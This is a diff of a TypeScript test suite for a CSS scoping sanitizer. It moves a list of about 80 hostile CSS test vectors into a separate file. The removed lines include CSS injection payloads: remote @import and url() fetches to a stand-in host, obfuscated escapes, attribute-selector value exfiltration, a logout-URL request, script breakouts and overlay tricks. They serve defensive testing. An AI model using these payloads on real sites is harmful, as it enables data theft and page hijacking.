@@ -1,6 +1,7 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
 import { scopeCss } from '../../platform/content/css.ts'
+import { hostileCss } from './content-css-corpus.ts'
 
 const scope = '.content-post-42'
 const scoped = (css: string) => scopeCss(css, scope)
@@ -36,98 +37,17 @@ const expectHarmless = (css: string) => {
   }
 }
 
-const hostile: readonly string[] = [
-  '@import "https://evil.test/x.css";',
-  '@import url(//evil.test/x.css) screen;',
-  '@\\69mport "https://evil.test/x.css";',
-  '@charset "utf-7"; @namespace svg url(https://evil.test);',
-  '@font-face{font-family:x;src:url(https://evil.test/x.woff)}',
-  '@layer x{header{display:none}}',
-  '@property --x{syntax:"*";inherits:true;initial-value:url(https://evil.test)}',
-  '@container (min-width:1px){header{display:none}}',
-  '@document url(https://evil.test){a{color:red}}',
-  '@page{background:url(https://evil.test)}',
-  'a{background:url(https://evil.test/x)}',
-  'a{background:URL("//evil.test/x")}',
-  'a{background:\\75rl(https://evil.test/x)}',
-  'a{background:u\\72 l(https://evil.test/x)}',
-  'a{background:url(\\68ttps://evil.test/x)}',
-  'a{background:image-set("https://evil.test/x" 1x)}',
-  'a{background:-webkit-image-set(url(https://evil.test/x) 1x)}',
-  'a{background:image("https://evil.test/x")}',
-  'a{background:cross-fade(url(https://evil.test/x),red)}',
-  'a{background:src("https://evil.test/x")}',
-  'a{list-style-image:url(/api/auth/logout)}',
-  'a{background:url(/files/../api/auth/logout)}',
-  'a{background:url(/files/%2e%2e/api/auth/logout)}',
-  'a{background:url(data:text/html,evil)}',
-  'a{background:url("data:image/svg+xml,%3Csvg onload=evil%3E")}',
-  'a{cursor:url(https://evil.test/x.cur),auto}',
-  'a{filter:url(https://evil.test/x.svg#a)}',
-  'a{content:url(https://evil.test/x)}',
-  'a{--x:url(https://evil.test/x);background:var(--x)}',
-  'input[value^=a]{background:url(https://evil.test/a)}',
-  'a{position:fixed;inset:0}',
-  'a{position:FIXED!important}',
-  'a{position:fi\\78 ed}',
-  'a{p\\6f sition:fixed}',
-  'a{position:-webkit-sticky}',
-  'a{position:sticky}',
-  'a{position:fi/**/xed}',
-  'a{position:/**/fixed}',
-  'a{--p:fixed;position:var(--p)}',
-  'a{position:inherit}',
-  '@keyframes a{to{position:fixed}}',
-  'a{width:expression(alert(1))}',
-  'a{width:e\\78pression(alert(1))}',
-  'a{behavior:url(/files/x.htc)}',
-  'a{-ms-behavior:url(/files/x.htc)}',
-  'a{-moz-binding:url(/files/x.xml#a)}',
-  'a{background:url(javascript:alert(1))}',
-  '.content-post-42{contain:none;isolation:auto;all:initial}',
-  'body + header, html ~ div, :root + *{display:none}',
-  '.content-post-42 + header{display:none}',
-  '.content-post-42 ~ header{display:none}',
-  '.content-post-42.x:hover ~ header{display:none}',
-  'html:not(x) ~ header{display:none}',
-  '+ header{display:none}',
-  '& + header{display:none}',
-  'a{:not(&){display:none}}',
-  'a{& ~ b{display:none}}',
-  'a{color:red;}} header{display:none} b{',
-  'a{content:"\n} header{display:none} b{content:"}',
-  "a{content:'\r} header{display:none} b{content:'}",
-  'a{content:"\\\n} header{display:none} b{content:"}',
-  'a{color:red\\} header{display:none}',
-  'a[x="\n] header{display:none} b["]{color:red}',
-  '/* } header{display:none} /* */ a{color:red}',
-  '<!-- header{display:none} --> a{color:red}',
-  '</style><script>evil()</script>',
-  'a{content:"</style><script>evil()</script>"}',
-  'a{--x:{position:fixed};color:red}',
-  'a{--x:};header{display:none}',
-  'a{background:url(/files/a"b.png);color:red}',
-  'a{background:url(/files/a.png) url( https://evil.test/x )}',
-  '\ufeff@import "https://evil.test/x.css";',
-  '@media x;header{display:none}',
-  '@media screen{@import "https://evil.test/x.css";header{display:none}}',
-  '@supports (a:url("https://evil.test")){a{color:red}}',
-  '@media (x:"\n){}header{display:none}@media (y"){}',
-  'a{view-transition-name:x}',
-  '/*# sourceMappingURL=/etc/passwd */a{color:red}',
-]
-
 describe('hostile CSS', () => {
   it('covers at least 30 vectors', () => {
-    expect(new Set(hostile).size).toBeGreaterThanOrEqual(30)
+    expect(new Set(hostileCss).size).toBeGreaterThanOrEqual(30)
   })
 
-  it.each(hostile.map((css) => [css]))('stays in its box: %j', (css) => {
+  it.each(hostileCss.map((css) => [css]))('stays in its box: %j', (css) => {
     expectHarmless(scoped(css).css)
     expectHarmless(scoped(`b{color:blue}\n${css}\ni{color:green}`).css)
   })
 
-  it.each(hostile.map((css) => [css]))('gives the same when scoped again: %j', (css) => {
+  it.each(hostileCss.map((css) => [css]))('gives the same when scoped again: %j', (css) => {
     const once = scoped(css).css
     expect(scoped(once)).toEqual({ css: once, removed: [] })
   })
